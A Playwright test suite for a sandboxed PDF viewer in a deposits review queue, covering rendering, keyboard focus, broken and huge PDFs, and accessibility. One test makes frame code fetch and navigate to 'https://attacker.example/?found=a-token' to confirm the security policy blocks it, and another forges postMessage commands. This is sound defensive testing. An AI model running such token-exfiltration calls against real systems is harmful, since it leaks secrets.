import type { APIRequestContext, Locator, Page } from '@playwright/test';
import { expectAccessible, expectAccessibleColours, expectAccessibleFrame } from './support/axe.js';
import { announce, onlyCases } from './support/cases.js';
import { type PickedFile, aBrokenPdf, aPdf, aPng, withFlatFirstPage } from './support/files.js';
import { whatIsWithinReach } from './support/frames.js';
import { expect, expectNoSidewaysScroll, test } from './support/journey.js';
import { OPERATOR, newInvestor } from './support/people.js';
import { drawn, settled, useTheme } from './support/places.js';
import { signInAs } from './support/sign-in.js';

const HASH = 'c0ffee254729296a45a3885639ac7e10f9d54979a0d7f1e3c5b9a8e7f6d5c4b3';
const LAST = 'The eighth page';

/** Opens the queue with deposits of these proofs, in this order. @returns the proof of the one that is open */
async function openQueue(page: Page, request: APIRequestContext, proofs: PickedFile[]): Promise<Locator> {
  const investor = await newInvestor(request);
  const ids: string[] = [];
  for (const [index, proof] of proofs.entries()) ids.push(await announce(request, investor, 250 + index, proof));
  await signInAs(page, OPERATOR);
  await onlyCases(page, ids);
  await page.goto('/operations/deposits');
  return page.getByRole('region', { name: 'Proof of payment' });
}

async function frameOf(document: Locator) {
  const frame = await (await document.elementHandle())?.contentFrame();
  if (!frame) throw new Error('There is no frame');
  return frame;
}

test('a PDF is read in place, in a document that reaches nothing of ours', async ({ page, request, complaints }) => {
  const pages = [HASH, ...Array.from({ length: 6 }, (_, index) => `Page ${index + 2}`), LAST];
  const proof = await openQueue(page, request, [aPdf(...pages), aPng(900)]);
  const document = proof.getByTitle('Proof of payment, payment.pdf');
  const shown = document.contentFrame();
  await expect(shown.getByText(HASH)).toBeVisible();
  await expect(proof.getByText('payment.pdf, 8 pages')).toBeVisible();
  const inks = shown.getByRole('group', { name: 'Page 1 of 8' }).locator('canvas');
  expect(await inks.evaluate(darkPixels), 'the page is drawn').toBeGreaterThan(100);
  await expect(shown.getByRole('link')).toHaveCount(0);

  // Only what is in view, or nearly, takes memory.
  const last = shown.getByRole('group', { name: 'Page 8 of 8' });
  await expect(last.locator('canvas')).toHaveCount(0);
  await last.scrollIntoViewIfNeeded();
  await expect(shown.getByText(LAST)).toBeVisible();
  await expect(inks).toHaveCount(0);
  await settled(page);
  const frame = await frameOf(document);
  await expectAccessibleFrame(frame, 'a PDF');

  expect(await frame.evaluate(() => self.origin)).toBe('null');
  expect(await frame.evaluate(whatIsWithinReach)).toEqual([]);
  complaints.expect(/^The policy stopped connect-src: /);
  complaints.expect(/^(Connecting to|Fetch API cannot load) .+ Content Security Policy/);
  for (const address of ['/v1/market/assets', 'https://attacker.example/']) {
    const asked = frame.evaluate((url) => fetch(url, { mode: 'no-cors' }).then(() => url), address);
    await expect(asked).rejects.toThrow('Failed to fetch');
  }
  // Not even by going elsewhere: the page around lets no other address into the frame.
  complaints.expect(/^The policy stopped frame-src: /);
  complaints.expect(/^Framing .+ Content Security Policy/);
  const stopped = page.waitForEvent('console', (line) => line.text().startsWith('The policy stopped frame-src: '));
  await frame.evaluate(() => void location.assign('https://attacker.example/?found=a-token'));
  expect((await stopped).text()).toContain('https://attacker.example');
  await page.keyboard.press('j');
  await expect(proof.getByRole('img', { name: 'Proof of payment, picture.png' })).toBeVisible();
});

test('the keys of a PDF are its own: it is made larger or left, and nothing is pressed for the operator', async ({
  page,
  request,
}) => {
  const proof = await openQueue(page, request, [aPdf(HASH), aPng(900)]);
  const document = proof.getByTitle('Proof of payment, payment.pdf');
  const shown = document.contentFrame();
  await expect(shown.getByText(HASH)).toBeVisible();
  const across = () => shown.locator('html').evaluate((root) => root.scrollWidth - root.clientWidth);
  expect(await across(), 'a whole page is seen first').toBeLessThanOrEqual(0);
  const sharp = () =>
    shown
      .getByRole('group')
      .locator('canvas')
      .evaluate((canvas: HTMLCanvasElement) => canvas.width);
  const before = await sharp();
  await page.keyboard.press('z');
  await expect(proof.getByRole('button', { name: /^Smaller/ })).toHaveAttribute('aria-pressed', 'true');
  await expect.poll(across).toBeGreaterThan(100);
  await expect.poll(sharp).toBeGreaterThan(2 * before);
  await expect(shown.getByText(HASH)).toBeVisible();
  await document.focus();
  await expect(proof.getByText('Keys now go to the PDF.')).toBeVisible();
  // Chromium loses the scroll of a key that comes before what became wider is drawn.
  await drawn(await frameOf(document));
  await page.keyboard.press('ArrowRight');
  await expect.poll(() => shown.locator('html').evaluate((root) => root.scrollLeft)).toBeGreaterThan(0);
  await page.keyboard.press('z');
  await expect(proof.getByRole('button', { name: /^Larger/ })).toHaveAttribute('aria-pressed', 'false');
  await expect.poll(across).toBeLessThanOrEqual(0);

  const hash = page.getByLabel('Transaction hash');
  const picture = proof.getByRole('img', { name: 'Proof of payment, picture.png' });
  for (const key of ['Enter', 'j', 'o']) await page.keyboard.press(key);
  // What was pressed before it has arrived, or never will.
  await page.keyboard.press('z');
  await expect(proof.getByRole('button', { name: /^Smaller/ })).toBeVisible();
  await expect(hash).toHaveCount(0);
  await expect(picture).toHaveCount(0);
  await page.keyboard.press('Escape');
  await expect(page.getByRole('region', { name: 'Case', exact: true })).toBeFocused();

  // A document that is not what has the focus moves none, whatever it says.
  await page.keyboard.press('Enter');
  await expect(hash).toBeFocused();
  const frame = await frameOf(document);
  const lies = ['leave', 'zoom', 'key'].map((says) => ({ from: 'sextant-pdf', says, key: 'Enter' }));
  await frame.evaluate((messages) => messages.forEach((lie) => parent.postMessage(lie, '*')), lies);
  await frame.evaluate(() => parent.postMessage({ from: 'sextant-pdf', says: 'shown', pages: 7 }, '*'));
  await expect(proof.getByText('payment.pdf, 7 pages')).toBeVisible();
  await expect(hash).toBeFocused();
  await expect(proof.getByRole('button', { name: /^Smaller/ })).toBeVisible();
  await page.keyboard.press('Escape');
  await page.keyboard.press('Escape');

  // By the keyboard alone: into the document, which is named, and out of it again.
  await proof.getByRole('button', { name: /^Smaller/ }).focus();
  await page.keyboard.press('Shift+Tab');
  await expect(shown.getByRole('main', { name: 'Pages' })).toBeFocused();
  await page.keyboard.press('Tab');
  await expect(proof.getByRole('button', { name: /^Smaller/ })).toBeFocused();
  await page.keyboard.press('j');
  await expect(picture).toBeVisible();
  await page.keyboard.press('k');
  await expect(shown.getByText(HASH)).toBeVisible();
});

test('a PDF that cannot be read says so, and can be saved', async ({ page, request }) => {
  const proof = await openQueue(page, request, [aBrokenPdf(), aPdf(HASH)]);
  const sentence = proof.getByText('This PDF cannot be shown here.');
  await expect(sentence).toBeVisible();
  await expect(proof.getByText('Download it to look at it.')).toBeVisible();
  await expect(proof.locator('iframe')).toHaveCount(0);
  const saved = page.waitForEvent('download');
  await proof.getByRole('link', { name: 'Download' }).click();
  expect((await saved).suggestedFilename()).toBe('payment.pdf');
  await settled(page);
  await expectAccessible(page, 'a PDF that cannot be shown');
  await page.setViewportSize({ width: 390, height: 844 });
  await expectNoSidewaysScroll(page, 'a PDF that cannot be shown, on a phone');
  await page.setViewportSize({ width: 1280, height: 800 });
  await useTheme(page, 'dark');
  await expectAccessibleColours(page, 'a PDF that cannot be shown, dark');
  await page.keyboard.press('j');
  await expect(sentence).toHaveCount(0);
  // Nothing is drawn in a frame below what is in view, where the warnings of the case have put it.
  await proof.locator('iframe').scrollIntoViewIfNeeded();
  await expect(proof.locator('iframe').contentFrame().getByText(HASH)).toBeVisible();
});

test('a PDF of ten thousand pages keeps nobody from the next case', async ({ page, request }) => {
  const many = Array.from({ length: 10_000 }, (_, index) => `Page ${index + 1}`);
  const proof = await openQueue(page, request, [aPdf(...many), aPng(900)]);
  const shown = proof.getByTitle('Proof of payment, payment.pdf').contentFrame();
  await expect(proof.getByText('payment.pdf, 10,000 pages')).toBeVisible();
  await expect(shown.getByText('Only the first 500 of 10,000 pages are shown.')).toBeAttached();
  await expect(shown.getByText('Page 1', { exact: true })).toBeVisible();
  expect(await shown.getByRole('group').locator('canvas').count()).toBeLessThan(5);
  await page.keyboard.press('j');
  await expect(proof.getByRole('img', { name: 'Proof of payment, picture.png' })).toBeVisible();
});

test('a PDF stays when its words cannot be read, or when it cannot be drawn once more', async ({ page, request }) => {
  // Where PDF.js begins with the words, after the picture.
  await page.addInitScript(() => {
    if (self.origin !== 'null') return;
    Element.prototype.getBoundingClientRect = () => {
      throw new Error('No words');
    };
  });
  const proof = await openQueue(page, request, [aPdf(HASH)]);
  const document = proof.getByTitle('Proof of payment, payment.pdf');
  const first = document.contentFrame().getByRole('group', { name: 'Page 1 of 1' });
  const picture = first.locator('canvas');
  await expect(proof.getByText('payment.pdf', { exact: true })).toBeVisible();
  await expect(picture).toBeVisible();
  const frame = await frameOf(document);
  await frame.evaluate(() => {
    const { getContext } = HTMLCanvasElement.prototype;
    HTMLCanvasElement.prototype.getContext = function (this: HTMLCanvasElement, ...asked: [string]) {
      if (this.isConnected) return Reflect.apply(getContext, this, asked) as null;
      Object.assign(self, { refused: this.width });
      return null;
    } as typeof getContext;
  });
  const across = () => first.evaluate((element) => element.clientWidth);
  const before = await across();
  await page.keyboard.press('z');
  await expect.poll(across).toBeGreaterThan(2 * before);
  await expect.poll(() => frame.evaluate('self.refused')).toBe(await across());
  await settled(page);
  await expect(picture).toBeVisible();
  expect(await picture.evaluate(darkPixels), 'the page as it was drawn').toBeGreaterThan(100);
  await expect(first).toHaveText('');
  await expect(proof.getByText('This PDF cannot be shown here.')).toHaveCount(0);
});

test('a PDF whose first page is very flat has no more of the others drawn than are seen', async ({ page, request }) => {
  await page.addInitScript(() => {
    if (self.origin !== 'null') return;
    const { getContext } = HTMLCanvasElement.prototype;
    const begun = new Set<HTMLCanvasElement>();
    Object.assign(self, { begun });
    HTMLCanvasElement.prototype.getContext = function (this: HTMLCanvasElement, ...asked: [string]) {
      if (this.width * this.height > 100_000) begun.add(this);
      return Reflect.apply(getContext, this, asked) as null;
    } as typeof getContext;
  });
  const many = Array.from({ length: 500 }, (_, index) => `Page ${index + 1}`);
  const proof = await openQueue(page, request, [withFlatFirstPage(aPdf(...many))]);
  const place = proof.getByTitle('Proof of payment, payment.pdf');
  const shown = place.contentFrame();
  await expect(shown.getByText('Page 2', { exact: true })).toBeVisible();
  await settled(page);
  const begun = await (await frameOf(place)).evaluate(() => (self as unknown as { begun: Set<unknown> }).begun.size);
  expect(begun).toBeGreaterThan(0);
  expect(begun).toBeLessThan(10);
  const sizes = await shown
    .locator('.page, canvas')
    .evaluateAll((seen) =>
      seen.map((element) => element.getBoundingClientRect().right - document.documentElement.clientWidth),
    );
  expect(Math.max(...sizes), 'what stands out of the frame').toBeLessThanOrEqual(0);
});

/** Runs in the document. */
function darkPixels(canvas: Element): number {
  if (!(canvas instanceof HTMLCanvasElement)) return 0;
  const { data } = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] };
  return [...data].filter((value, index) => index % 4 === 0 && value < 100).length;
}
